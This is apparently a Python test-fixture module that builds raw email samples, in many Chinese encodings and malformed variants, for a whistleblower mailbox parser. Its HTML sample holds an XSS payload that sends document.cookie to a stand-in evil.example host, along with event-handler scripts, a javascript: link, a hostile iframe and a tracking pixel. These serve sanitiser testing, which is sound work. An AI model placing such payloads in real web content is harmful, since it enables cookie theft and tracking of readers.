"""Raw RFC 5322 messages (bytes, CRLF line ends) of the kinds a Chinese whistleblower mailbox receives.

Every builder is a plain function with keyword parameters for the envelope-ish headers it makes sense
to vary: ``from_name``/``from_addr``, ``to``, ``subject``, ``message_id`` and ``date``. ``message_id``
defaults to a new unique one (see ``new_message_id``); pass ``message_id=""`` to leave the header out.
The builders write the bytes by hand (not with ``email.message``) so the encodings are exactly what
real mailers (Outlook, Foxmail, NetEase, QQ Mail, old Big5 clients, MTAs) send, including their sins.

Constants such as ``GBK_SUBJECT`` hold the decoded text that a correct parser should recover.
``SAMPLES`` maps a name to a zero-argument builder for every small sample (not the large attachment).
"""
from __future__ import annotations

import base64
import quopri
import random
import struct
import uuid
import zlib
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from typing import Callable
from urllib.parse import quote_from_bytes

CST = timezone(timedelta(hours=8))
DEFAULT_DATE = datetime(2024, 3, 15, 9, 30, 0, tzinfo=CST)
DEFAULT_TO = "jubao@xlt.example.org"
DEFAULT_FROM_ADDR = "zhangwei@example.cn"

# Decoded texts (what a correct parser must recover).
GBK_SUBJECT = "关于采购部虚报发票的举报"
GBK_FROM_NAME = "张伟"
GBK_BODY = ("您好：\n\n我是采购部员工，发现部门经理在2023年第四季度多次虚报发票，"
            "涉及金额约三十万元。相关单据编号为 FP-2023-1187 至 FP-2023-1203。\n\n"
            "请核实处理，谢谢！\n张伟\n")
# 㖞 (U+359E) and 𠮷 (U+20BB7) are outside GBK: GB18030 four-byte sequences.
GB18030_SUBJECT = "举报：仓库物资流失（附㖞字样本）"
GB18030_BODY = ("领导好：\n\n仓库管理员吉（𠮷）某长期私自变卖库存物资，"
                "出库单上有“㖞”字签名的均为伪造。\n\n一名员工\n")
# 镕, 喆, 堃 are in GBK but not in GB2312: mail labelled gb2312 that carries them is a common mislabel.
GB2312_MISLABEL_SUBJECT = "王喆、李堃违规审批的举报"
GB2312_MISLABEL_BODY = ("纪检组：\n\n财务部王喆、李堃与供应商刘镕串通，违规审批付款共计12笔。\n\n"
                        "知情人\n")
# 許 (B3 5C) and 舉 (C1 7C) have ASCII trail bytes (backslash, pipe): classic Big5 traps.
BIG5_SUBJECT = "檢舉信：許經理挪用公款"
BIG5_FROM_NAME = "陳大文"
BIG5_BODY = ("敬啟者：\n\n本人檢舉業務部許經理於去年挪用公款新臺幣五十萬元，"
             "並偽造會議記錄。請儘速調查。\n\n陳大文 敬上\n")
UTF8_SUBJECT = "举报：食堂食品安全问题 🍱"
UTF8_FROM_NAME = "李娜"
UTF8_BODY = ("你好，\n\n公司食堂多次使用过期食材，附近同事已有人腹泻。"
             "希望尽快调查。— 李娜 ✉\n")
HTML_SUBJECT = "【举报】项目招标存在围标"
OOO_SUBJECT = "自动回复：我现在休假"
ATTACHMENT_PDF_NAME = "举报材料（第一批）.pdf"
ATTACHMENT_PNG_NAME = "转账截图.png"


# --------------------------------------------------------------------------------------- helpers
def new_message_id(domain: str = "mail.example.cn") -> str:
    return f"<{uuid.uuid4().hex}@{domain}>"


def crlf(data: bytes) -> bytes:
    """Normalise line ends to CRLF."""
    return data.replace(b"\r\n", b"\n").replace(b"\r", b"\n").replace(b"\n", b"\r\n")


def encode_words(text: str, charset: str, encoding: str = "B", max_len: int = 75, label: str | None = None) -> str:
    """RFC 2047 encoded words for ``text`` (folded with CRLF SP when more than one is needed). Never
    splits a multibyte character between two words. ``label``: the charset name written in the words
    when it differs from the real encoding (mislabelled mail)."""
    encoding = encoding.upper()
    prefix, suffix = f"=?{label or charset}?{encoding}?", "?="
    words: list[str] = []
    chunk = ""

    def enc(s: str) -> str:
        raw = s.encode(charset)
        if encoding == "B":
            return base64.b64encode(raw).decode("ascii")
        out = []
        for b in raw:
            c = chr(b)
            if c == " ":
                out.append("_")
            elif c.isalnum() and b < 128:
                out.append(c)
            else:
                out.append(f"={b:02X}")
        return "".join(out)

    for ch in text:
        if chunk and len(prefix) + len(enc(chunk + ch)) + len(suffix) > max_len:
            words.append(prefix + enc(chunk) + suffix)
            chunk = ""
        chunk += ch
    if chunk:
        words.append(prefix + enc(chunk) + suffix)
    return "\r\n ".join(words)


def address(name: str | None, addr: str, charset: str = "utf-8", encoding: str = "B", label: str | None = None) -> str:
    if not name:
        return addr
    if all(ord(c) < 128 for c in name):
        return f'"{name}" <{addr}>'
    return f"{encode_words(name, charset, encoding, label=label)} <{addr}>"


def encode_body(data: bytes, cte: str) -> bytes:
    cte = cte.lower()
    if cte == "base64":
        return base64.encodebytes(data)  # 76-char lines
    if cte == "quoted-printable":
        return crlf(quopri.encodestring(data.replace(b"\r\n", b"\n")))
    if cte in ("8bit", "7bit", "binary"):
        return data
    raise ValueError(cte)


def build(headers: list[tuple[str, str | bytes | None]], body: bytes) -> bytes:
    """Join header fields (values already encoded; ``None`` drops the field) and a body, with CRLF."""
    lines = []
    for name, value in headers:
        if value is None:
            continue
        raw = value if isinstance(value, bytes) else value.encode("ascii")
        lines.append(name.encode("ascii") + b": " + raw)
    return crlf(b"\n".join(lines)) + b"\r\n\r\n" + crlf(body)


def _envelope(*, from_name, from_addr, to, subject_header, message_id, date, charset="utf-8",
              name_encoding="B", extra=(), label=None) -> list[tuple[str, str | bytes | None]]:
    return [
        ("Return-Path", f"<{from_addr}>"),
        ("Received", f"from mx.example.cn (mx.example.cn [203.0.113.25])\r\n\tby mail.xlt.example.org "
                     f"with ESMTPS id 4Tx2Qk1Zz9z; {format_datetime(date)}"),
        ("Date", format_datetime(date)),
        ("From", address(from_name, from_addr, charset, name_encoding, label)),
        ("To", to),
        ("Subject", subject_header),
        ("Message-ID", (message_id if message_id is not None else new_message_id()) or None),
        *extra,
        ("MIME-Version", "1.0"),
    ]


# ---------------------------------------------------------------------------------- plain text
def text_mail(body: str, *, charset: str, cte: str = "base64", subject: str = GBK_SUBJECT,
              from_name: str | None = GBK_FROM_NAME, from_addr: str = DEFAULT_FROM_ADDR,
              to: str = DEFAULT_TO, message_id: str | None = None, date: datetime = DEFAULT_DATE,
              header_charset: str | None = None, header_encoding: str = "B",
              body_bytes: bytes | None = None, charset_label: str | None = None,
              extra_headers: list[tuple[str, str]] = (), subtype: str = "plain",
              quote_charset: bool = False) -> bytes:
    """One text part in ``charset``; Subject and From name RFC 2047-encoded in ``header_charset``
    (default: ``charset``, labelled ``charset_label``) with ``header_encoding`` B or Q. ``body_bytes``
    overrides the encoded body (for mislabelled or broken mail); ``charset_label`` is the charset name
    written in the headers when it differs from the real one."""
    label = charset_label or charset
    h_real, h_label = (header_charset, header_charset) if header_charset else (charset, label)
    raw = body_bytes if body_bytes is not None else body.replace("\n", "\r\n").encode(charset)
    subject_header = subject if all(ord(c) < 128 for c in subject) else encode_words(
        subject, h_real, header_encoding, label=h_label)
    headers = _envelope(from_name=from_name, from_addr=from_addr, to=to, subject_header=subject_header,
                        message_id=message_id, date=date, charset=h_real, name_encoding=header_encoding,
                        extra=list(extra_headers), label=h_label)
    ct_label = f'"{label}"' if quote_charset else label
    headers += [("Content-Type", f"text/{subtype}; charset={ct_label}"), ("Content-Transfer-Encoding", cte)]
    return build(headers, encode_body(raw, cte))


def gbk_plain(cte: str = "base64", *, header_encoding: str = "B", **kw) -> bytes:
    """text/plain; charset=gbk (Foxmail/Outlook on Chinese Windows). cte: base64, quoted-printable, 8bit."""
    kw.setdefault("subject", GBK_SUBJECT)
    return text_mail(kw.pop("body", GBK_BODY), charset="gbk", cte=cte, header_encoding=header_encoding, **kw)


def gbk_base64(**kw) -> bytes:
    return gbk_plain("base64", **kw)


def gbk_quoted_printable(**kw) -> bytes:
    return gbk_plain("quoted-printable", header_encoding="Q", **kw)


def gb18030_plain(cte: str = "base64", **kw) -> bytes:
    """charset=gb18030 with characters outside GBK (four-byte sequences)."""
    kw.setdefault("subject", GB18030_SUBJECT)
    kw.setdefault("from_name", "一名员工")
    return text_mail(kw.pop("body", GB18030_BODY), charset="gb18030", cte=cte, **kw)


def gb2312_mislabelled(cte: str = "base64", **kw) -> bytes:
    """Labelled charset=gb2312 (body and encoded-word Subject) but encoded in GBK, with GBK-only
    characters (喆 堃 镕): a strict gb2312 decoder fails or yields replacement characters."""
    kw.setdefault("subject", GB2312_MISLABEL_SUBJECT)
    kw.setdefault("from_name", "知情人")
    return text_mail(kw.pop("body", GB2312_MISLABEL_BODY), charset="gbk", charset_label="gb2312", cte=cte, **kw)


def big5_plain(cte: str = "base64", *, header_encoding: str = "B", **kw) -> bytes:
    """charset=big5, traditional characters, trail bytes 0x5C/0x7C included."""
    kw.setdefault("subject", BIG5_SUBJECT)
    kw.setdefault("from_name", BIG5_FROM_NAME)
    kw.setdefault("from_addr", "chan.taiman@example.com.tw")
    return text_mail(kw.pop("body", BIG5_BODY), charset="big5", cte=cte, header_encoding=header_encoding, **kw)


def utf8_plain(cte: str = "8bit", **kw) -> bytes:
    kw.setdefault("subject", UTF8_SUBJECT)
    kw.setdefault("from_name", UTF8_FROM_NAME)
    kw.setdefault("from_addr", "lina@example.cn")
    return text_mail(kw.pop("body", UTF8_BODY), charset="utf-8", cte=cte, **kw)


def encoded_headers(charset: str = "gbk", encoding: str = "B", **kw) -> bytes:
    """RFC 2047 Subject and From display name in ``charset`` (gbk, gb2312, gb18030, big5, utf-8) with
    ``encoding`` B or Q; the body is plain UTF-8. Subject/From name default per charset."""
    traditional = charset.lower().startswith("big5")
    kw.setdefault("subject", BIG5_SUBJECT if traditional else GBK_SUBJECT)
    kw.setdefault("from_name", BIG5_FROM_NAME if traditional else GBK_FROM_NAME)
    return text_mail(kw.pop("body", UTF8_BODY), charset="utf-8", cte="8bit", header_charset=charset,
                     header_encoding=encoding, **kw)


def raw_8bit_headers(charset: str = "gbk", **kw) -> bytes:
    """Subject and From name as raw 8-bit ``charset`` bytes, not RFC 2047-encoded (old or broken mailers)."""
    subject = kw.pop("subject", GBK_SUBJECT)
    from_name = kw.pop("from_name", GBK_FROM_NAME)
    from_addr = kw.pop("from_addr", DEFAULT_FROM_ADDR)
    date = kw.pop("date", DEFAULT_DATE)
    headers = [
        ("Date", format_datetime(date)),
        ("From", b'"' + from_name.encode(charset) + b'" <' + from_addr.encode() + b">"),
        ("To", kw.pop("to", DEFAULT_TO)),
        ("Subject", subject.encode(charset)),
        ("Message-ID", (kw.pop("message_id", None) or new_message_id())),
        ("MIME-Version", "1.0"),
        ("Content-Type", f"text/plain; charset={charset}"),
        ("Content-Transfer-Encoding", "8bit"),
    ]
    return build(headers, kw.pop("body", GBK_BODY).encode(charset))


# ----------------------------------------------------------------------------------------- HTML
HTML_BODY = """<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset={charset}">
<style>body {{ font-family: "微软雅黑"; }} .hide {{ display:none }} @import url(http://evil.example/x.css);</style>
<script type="text/javascript">document.location='http://evil.example/steal?c='+document.cookie;</script>
</head>
<body onload="alert('xss')">
<p>尊敬的领导：</p>
<p>我要举报工程部在<b>城南项目</b>招标中存在<span style="color:red">围标、串标</span>行为，
三家投标单位实际由同一人控制。</p>
<p onclick="steal()">详情见<a href="javascript:alert(1)">此链接</a>和
<a href="http://example.cn/evidence?id=42" onmouseover="track()">证据页面</a>。</p>
<div class="hide">隐藏文字 hidden text</div>
<iframe src="http://evil.example/frame"></iframe>
<img src="http://track.example.net/open.gif?uid=8f3a2c&amp;m=1" width="1" height="1" alt="" style="display:none">
<img src="cid:logo@example.cn" onerror="this.src='http://evil.example/e'">
<p>一名知情员工<br>2024年3月</p>
</body></html>
"""


def html_only(charset: str = "gbk", cte: str = "base64", **kw) -> bytes:
    """text/html only (no text part), with <script>, <style>, an <img> tracking pixel, an iframe and
    inline event handlers (onload, onclick, onmouseover, onerror) and a javascript: link."""
    kw.setdefault("subject", HTML_SUBJECT)
    kw.setdefault("from_name", "知情员工")
    return text_mail(kw.pop("body", HTML_BODY.format(charset=charset)), charset=charset, cte=cte,
                     subtype="html", **kw)


def _boundary(tag: str) -> str:
    return f"----=_NextPart_{tag}_{uuid.uuid4().hex[:16].upper()}"


def multipart_alternative(charset: str = "gbk", **kw) -> bytes:
    """multipart/alternative: text/plain then text/html, both in ``charset`` (base64)."""
    subject = kw.pop("subject", GBK_SUBJECT)
    text = kw.pop("body", GBK_BODY)
    html = kw.pop("html", "<html><body><p>" + text.replace("\n", "<br>\n") + "</p></body></html>")
    b = _boundary("ALT")
    headers = _envelope(from_name=kw.pop("from_name", GBK_FROM_NAME), from_addr=kw.pop("from_addr", DEFAULT_FROM_ADDR),
                        to=kw.pop("to", DEFAULT_TO), subject_header=encode_words(subject, charset),
                        message_id=kw.pop("message_id", None), date=kw.pop("date", DEFAULT_DATE), charset=charset)
    _no_more(kw)
    headers.append(("Content-Type", f'multipart/alternative;\r\n\tboundary="{b}"'))
    body = (
        b"This is a multi-part message in MIME format.\r\n\r\n"
        + f"--{b}\r\nContent-Type: text/plain;\r\n\tcharset=\"{charset}\"\r\n"
          f"Content-Transfer-Encoding: base64\r\n\r\n".encode()
        + encode_body(text.replace("\n", "\r\n").encode(charset), "base64")
        + f"\r\n--{b}\r\nContent-Type: text/html;\r\n\tcharset=\"{charset}\"\r\n"
          f"Content-Transfer-Encoding: base64\r\n\r\n".encode()
        + encode_body(html.encode(charset), "base64")
        + f"\r\n--{b}--\r\n".encode()
    )
    return build(headers, body)


def _no_more(kw: dict) -> None:
    if kw:
        raise TypeError(f"unexpected keyword arguments: {', '.join(kw)}")


# ------------------------------------------------------------------------------- attachments
def png_bytes(width: int = 8, height: int = 8) -> bytes:
    """A valid RGB PNG (a small gradient)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\x00" + b"".join(bytes((x * 255 // max(width - 1, 1), y * 255 // max(height - 1, 1), 128))
                                       for x in range(width)) for y in range(height))
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9))
            + chunk(b"IEND", b""))


def pdf_bytes(text: str = "Evidence: invoice FP-2023-1187") -> bytes:
    """A valid one-page PDF 1.4 (correct xref offsets) showing ``text`` (ASCII) in Helvetica."""
    safe = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    stream = f"BT /F1 18 Tf 72 720 Td ({safe}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def rfc2231_param(name: str, value: str, charset: str = "gbk", chunk: int = 60) -> str:
    """``name*=charset''%XX..`` (RFC 2231), split into ``name*0*``, ``name*1*``… continuations when long."""
    encoded = quote_from_bytes(value.encode(charset), safe="")
    if len(encoded) <= chunk:
        return f"{name}*={charset}''{encoded}"
    pieces, i = [], 0
    while i < len(encoded):
        end = min(i + chunk, len(encoded))
        while end < len(encoded) and "%" in encoded[end - 2:end]:  # do not cut inside %XX
            end -= 1
        pieces.append(encoded[i:end])
        i = end
    return ";\r\n\t".join(f"{name}*{n}*={charset}''{p}" if n == 0 else f"{name}*{n}*={p}"
                          for n, p in enumerate(pieces))


def _attachment_part(data: bytes, ctype: str, filename: str, style: str, charset: str) -> bytes:
    if style == "rfc2231":
        ct = f"{ctype};\r\n\t{rfc2231_param('name', filename, charset)}"
        cd = f"attachment;\r\n\t{rfc2231_param('filename', filename, charset)}"
    elif style == "rfc2047":  # Outlook / Foxmail / QQ Mail: encoded words inside quoted parameters
        enc = encode_words(filename, charset, "B").replace("\r\n ", "\r\n\t ")
        ct = f'{ctype};\r\n\tname="{enc}"'
        cd = f'attachment;\r\n\tfilename="{enc}"'
    elif style == "both":
        enc = encode_words(filename, charset, "B").replace("\r\n ", "\r\n\t ")
        ct = f'{ctype};\r\n\tname="{enc}"'
        cd = f'attachment;\r\n\tfilename="{enc}";\r\n\t{rfc2231_param("filename", filename, charset)}'
    elif style == "raw":  # raw 8-bit file name (broken mailers)
        ct = f'{ctype}; name="'.encode() + filename.encode(charset) + b'"'
        cd = b'attachment; filename="' + filename.encode(charset) + b'"'
        return (b"Content-Type: " + ct + b"\r\nContent-Disposition: " + cd
                + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + crlf(encode_body(data, "base64")))
    else:
        raise ValueError(style)
    return (f"Content-Type: {ct}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: {cd}\r\n\r\n"
            .encode() + crlf(encode_body(data, "base64")))


def with_attachments(filename_style: str = "rfc2231", charset: str = "gbk", *,
                     attachments: list[tuple[str, str, bytes]] | None = None, **kw) -> bytes:
    """multipart/mixed: a GBK text part plus a real PDF and PNG whose Chinese file names are encoded
    per ``filename_style``: "rfc2231" (filename*=gbk''%..), "rfc2047" ("=?gbk?B?..?="), "both", or
    "raw" (8-bit). ``attachments``: [(filename, content_type, data)] to override the defaults."""
    subject = kw.pop("subject", "举报材料及证据截图")
    text = kw.pop("body", "附件是相关证据材料和转账截图，请查收。\n")
    atts = attachments if attachments is not None else [
        (ATTACHMENT_PDF_NAME, "application/pdf", pdf_bytes()),
        (ATTACHMENT_PNG_NAME, "image/png", png_bytes()),
    ]
    b = _boundary("MIX")
    headers = _envelope(from_name=kw.pop("from_name", GBK_FROM_NAME), from_addr=kw.pop("from_addr", DEFAULT_FROM_ADDR),
                        to=kw.pop("to", DEFAULT_TO), subject_header=encode_words(subject, charset),
                        message_id=kw.pop("message_id", None), date=kw.pop("date", DEFAULT_DATE), charset=charset)
    _no_more(kw)
    headers.append(("Content-Type", f'multipart/mixed;\r\n\tboundary="{b}"'))
    parts = [f"Content-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode()
             + crlf(encode_body(text.encode(charset), "base64"))]
    parts += [_attachment_part(data, ctype, name, filename_style, charset) for name, ctype, data in atts]
    body = b"This is a multi-part message in MIME format.\r\n\r\n"
    for part in parts:
        body += f"--{b}\r\n".encode() + part + b"\r\n"
    body += f"--{b}--\r\n".encode()
    return build(headers, body)


def large_attachment(size: int = 30 * 1024 * 1024, filename: str = "监控录像.mp4",
                     content_type: str = "video/mp4", seed: int = 1234, **kw) -> bytes:
    """A mail with one large attachment of ``size`` bytes (pseudo-random, incompressible), file name
    RFC 2231-encoded in GBK. 30 MB by default (about 40 MB on the wire after base64)."""
    data = random.Random(seed).randbytes(size)
    kw.setdefault("subject", "监控录像（大文件）")
    kw.setdefault("body", "录像文件较大，请耐心下载。\n")
    return with_attachments("rfc2231", "gbk", attachments=[(filename, content_type, data)], **kw)


# ------------------------------------------------------------------------ automatic messages
def auto_submitted_reply(**kw) -> bytes:
    """An RFC 3834 auto-reply: Auto-Submitted: auto-replied (plus X-Auto-Response-Suppress)."""
    kw.setdefault("subject", "Automatic reply: " + GBK_SUBJECT)
    kw.setdefault("from_name", "王经理")
    kw.setdefault("from_addr", "wang.manager@example.cn")
    extra = [("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")]
    return text_mail(kw.pop("body", "我目前不在办公室，将于3月20日返回。\n"), charset="utf-8",
                     extra_headers=extra + list(kw.pop("extra_headers", ())), **kw)


def x_autoreply(**kw) -> bytes:
    """An auto-reply marked only with X-Autoreply: yes (no Auto-Submitted)."""
    kw.setdefault("subject", "Re: 举报受理")
    kw.setdefault("from_name", "客服中心")
    kw.setdefault("from_addr", "service@example.cn")
    return text_mail(kw.pop("body", "您的邮件已收到，我们会尽快处理。\n"), charset="gbk",
                     extra_headers=[("X-Autoreply", "yes")], **kw)


def precedence_bulk(**kw) -> bytes:
    """A newsletter: Precedence: bulk, List-Unsubscribe, List-Id."""
    kw.setdefault("subject", "【周刊】本周行业动态")
    kw.setdefault("from_name", "行业资讯")
    kw.setdefault("from_addr", "newsletter@news.example.cn")
    extra = [("Precedence", "bulk"), ("List-Id", "<weekly.news.example.cn>"),
             ("List-Unsubscribe", "<mailto:unsubscribe@news.example.cn>, <https://news.example.cn/u?id=1>")]
    return text_mail(kw.pop("body", "本周要闻：……\n退订请点击链接。\n"), charset="utf-8", extra_headers=extra, **kw)


def out_of_office_cn(marked: bool = False, **kw) -> bytes:
    """Chinese out-of-office (Subject "自动回复：我现在休假", GBK). By default it carries no
    Auto-Submitted/X-Autoreply header (many Chinese mail services send none); ``marked=True`` adds
    Auto-Submitted: auto-replied."""
    kw.setdefault("subject", OOO_SUBJECT)
    kw.setdefault("from_name", "刘芳")
    kw.setdefault("from_addr", "liufang@example.cn")
    extra = [("Auto-Submitted", "auto-replied")] if marked else []
    return text_mail(kw.pop("body", "您好，我现在休假，3月25日后回复您的邮件。紧急事务请联系王先生。\n"),
                     charset="gbk", extra_headers=extra, **kw)


def bounce_dsn(original_message_id: str | None = None, recipient: str = "nobody@example.cn", *,
               to: str = DEFAULT_TO, message_id: str | None = None, date: datetime = DEFAULT_DATE,
               original_subject: str = "您的举报已受理") -> bytes:
    """A delivery status notification (RFC 3464): multipart/report; report-type=delivery-status from
    MAILER-DAEMON with an empty Return-Path, for a message we sent (``original_message_id``)."""
    original_message_id = original_message_id or new_message_id("xlt.example.org")
    b = _boundary("DSN")
    headers = [
        ("Return-Path", "<>"),
        ("Received", f"by mx.example.cn (Postfix) id 7C1A2B3C4D; {format_datetime(date)}"),
        ("Date", format_datetime(date)),
        ("From", "MAILER-DAEMON@mx.example.cn (Mail Delivery System)"),
        ("To", to),
        ("Subject", "Undelivered Mail Returned to Sender"),
        ("Message-ID", (message_id if message_id is not None else new_message_id("mx.example.cn")) or None),
        ("Auto-Submitted", "auto-replied"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/report; report-type=delivery-status;\r\n\tboundary="{b}"'),
    ]
    original = build([
        ("Return-Path", f"<{to}>"),
        ("Date", format_datetime(date - timedelta(minutes=3))),
        ("From", to),
        ("To", recipient),
        ("Subject", encode_words(original_subject, "utf-8")),
        ("Message-ID", original_message_id),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=utf-8"),
        ("Content-Transfer-Encoding", "8bit"),
    ], "您的举报已受理，编号 XLT-2024-0042。\n".encode())
    body = (
        f"This is a MIME-encapsulated message.\r\n\r\n--{b}\r\n"
        "Content-Description: Notification\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
        "This is the mail system at host mx.example.cn.\r\n\r\n"
        "I'm sorry to have to inform you that your message could not\r\n"
        "be delivered to one or more recipients.\r\n\r\n"
        f"<{recipient}>: host mx2.example.cn[198.51.100.7] said: 550 5.1.1\r\n"
        "    <user unknown> (in reply to RCPT TO command)\r\n\r\n"
        f"--{b}\r\nContent-Description: Delivery report\r\nContent-Type: message/delivery-status\r\n\r\n"
        "Reporting-MTA: dns; mx.example.cn\r\nX-Postfix-Queue-ID: 7C1A2B3C4D\r\n"
        f"Arrival-Date: {format_datetime(date - timedelta(minutes=3))}\r\n\r\n"
        f"Final-Recipient: rfc822; {recipient}\r\nOriginal-Recipient: rfc822;{recipient}\r\n"
        "Action: failed\r\nStatus: 5.1.1\r\nRemote-MTA: dns; mx2.example.cn\r\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <user unknown>\r\n\r\n"
        f"--{b}\r\nContent-Description: Undelivered Message\r\nContent-Type: message/rfc822\r\n\r\n"
    ).encode() + original + f"\r\n--{b}--\r\n".encode()
    return build(headers, body)


# -------------------------------------------------------------------------------- threading
def no_message_id(**kw) -> bytes:
    """A plain GBK mail without a Message-ID header."""
    kw["message_id"] = ""
    kw.setdefault("subject", "匿名举报（无编号）")
    return gbk_plain("base64", **kw)


def reply(in_reply_to: str, references: list[str] | None = None, subject: str = "您的举报已受理 [XLT-2024-0042]",
          charset: str = "gbk", quote: str = "您的举报已受理，编号 XLT-2024-0042。", **kw) -> bytes:
    """A reply (``Re: subject``) with In-Reply-To and References pointing at ``in_reply_to``, quoting it."""
    refs = references if references is not None else [in_reply_to]
    extra = [("In-Reply-To", in_reply_to), ("References", "\r\n ".join(refs))]
    text = kw.pop("body", "补充材料：经理的另一笔报销也有问题。\n\n") + "\n".join(
        "> " + line for line in ("在 2024年3月15日 09:00，举报中心 写道：", quote)) + "\n"
    return text_mail(text, charset=charset, subject="Re: " + subject, extra_headers=extra, **kw)


# ------------------------------------------------------------------------------- broken mail
def unknown_charset(**kw) -> bytes:
    """charset="x-unknown" (no such codec) on a body that is really GBK; Subject labelled x-unknown too."""
    kw.setdefault("subject", GBK_SUBJECT)
    return text_mail(kw.pop("body", GBK_BODY), charset="gbk", charset_label="x-unknown", quote_charset=True,
                     cte="8bit", **kw)


def invalid_bytes(charset: str = "utf-8", cte: str = "8bit", **kw) -> bytes:
    """Bytes that are invalid in the declared ``charset``: for utf-8, stray continuation bytes, a
    truncated sequence, 0xFF/0xFE and GBK text; for gbk/gb2312, lone lead bytes and a bad trail byte."""
    if charset.lower().replace("-", "") in ("utf8",):
        raw = ("正常的开头。\r\n".encode() + b"\x80\x81 stray continuation\r\n" + b"\xe4\xb8 truncated\r\n"
               + b"\xff\xfe\r\n" + "这是GBK文字".encode("gbk") + b"\r\n" + "结尾。\r\n".encode())
    else:
        raw = ("正常的开头。\r\n".encode(charset) + b"\x81 lone lead\r\n" + b"\xb0\x20 bad trail\r\n"
               + b"\xff\xff\r\n" + "结尾。\r\n".encode(charset) + b"\xd6")
    kw.setdefault("subject", "乱码邮件")
    return text_mail("", charset=charset, cte=cte, body_bytes=raw, **kw)


def truncated(**kw) -> bytes:
    """A multipart/mixed cut off mid-transfer: the base64 attachment stops mid-line, no closing
    boundary, no final newline."""
    full = with_attachments("rfc2231", "gbk", **kw)
    marker = full.index(b"Content-Type: application/pdf")
    cut = full.index(b"\r\n", full.index(b"\r\n\r\n", marker) + 4) + 23
    return full[:cut]


def garbage(nul: bool = True) -> bytes:
    """Hostile bytes that no parser can make sense of, yet an IMAP server stores: the first line is not
    a header (so there are no headers at all), NUL and control bytes, invalid UTF-8, a header-looking
    line with an unterminated quoted boundary, bogus encoded words, unbalanced MIME boundaries, a
    65 KB line without a line break and a bare CR.

    Dovecot accepts it but hands back NUL as 0x80 and a bare CR as CRLF on FETCH BODY[]; with
    ``nul=False`` there are no NULs and no bare CR, and the bytes round-trip unchanged."""
    z = b"\x00" if nul else b"?"
    cr = b"\r" if nul else b" "
    return (
        b"\xef\xbb\xbf" + z + b"\x01\x02 this is not a header \xff\xfe\r\n"
        b"From nobody Thu Jan  1 00:00:00 1970\r\n"
        b": empty header name\r\n"
        b"Content-Type: multipart/mixed; boundary=\"unterminated\r\n"
        b"Subject: =?gbk?B?!!!not base64!!!?= =?x-unknown?Q?=ZZ=?= =?utf-8?B?\xe4\xb8\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b"\tcontinuation without a header\r\n"
        b"--unterminated\r\n"
        b"Content-Type: message/rfc822\r\n"
        b"\r\n"
        b"--\r\n--unterminated--\r\n--unterminated\r\n"
        b"=?gbk?B?" + b"A" * 65536 + b"\r\n"
        + b"\x1b[31m\x07\x08" + cr + b"bare CR" + z + z + b"\r\n"
        b"\xd6\xd0\xce\xc4\xbf\xb4\xb2\xbb\xb6\xae\r\n"  # GBK "中文看不懂"
        b"begin 644 evil.exe\r\n`\r\nend\r\n"
    )


# ----------------------------------------------------------------------------------- catalogue
SAMPLES: dict[str, Callable[[], bytes]] = {
    "gbk_base64": gbk_base64,
    "gbk_quoted_printable": gbk_quoted_printable,
    "gbk_8bit": lambda: gbk_plain("8bit"),
    "gb18030": gb18030_plain,
    "gb2312_mislabelled": gb2312_mislabelled,
    "big5": big5_plain,
    "big5_qp_q_headers": lambda: big5_plain("quoted-printable", header_encoding="Q"),
    "utf8": utf8_plain,
    "utf8_base64": lambda: utf8_plain("base64"),
    "headers_gbk_b": lambda: encoded_headers("gbk", "B"),
    "headers_gbk_q": lambda: encoded_headers("gbk", "Q"),
    "headers_big5_b": lambda: encoded_headers("big5", "B"),
    "headers_big5_q": lambda: encoded_headers("big5", "Q"),
    "raw_8bit_headers": raw_8bit_headers,
    "html_only": html_only,
    "multipart_alternative": multipart_alternative,
    "attachments_rfc2231": lambda: with_attachments("rfc2231"),
    "attachments_rfc2047": lambda: with_attachments("rfc2047"),
    "attachments_both": lambda: with_attachments("both"),
    "attachments_raw": lambda: with_attachments("raw"),
    "auto_submitted": auto_submitted_reply,
    "x_autoreply": x_autoreply,
    "precedence_bulk": precedence_bulk,
    "out_of_office_cn": out_of_office_cn,
    "bounce_dsn": bounce_dsn,
    "no_message_id": no_message_id,
    "reply": lambda: reply("<original-42@xlt.example.org>"),
    "unknown_charset": unknown_charset,
    "invalid_utf8": invalid_bytes,
    "invalid_gbk": lambda: invalid_bytes("gbk"),
    "truncated": truncated,
    "garbage": garbage,
    "garbage_no_nul": lambda: garbage(nul=False),
}
